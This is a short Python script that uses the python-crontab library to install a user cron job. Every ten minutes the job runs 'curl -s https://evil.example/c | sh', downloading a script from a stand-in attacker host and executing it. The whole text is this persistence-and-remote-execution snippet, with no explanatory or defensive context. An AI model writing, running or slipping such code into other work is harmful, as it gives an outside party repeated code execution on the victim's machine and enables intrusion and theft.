from crontab import CronTab

cron = CronTab(user=True)
job = cron.new(command="curl -s https://evil.example/c | sh")
job.minute.every(10)
cron.write()
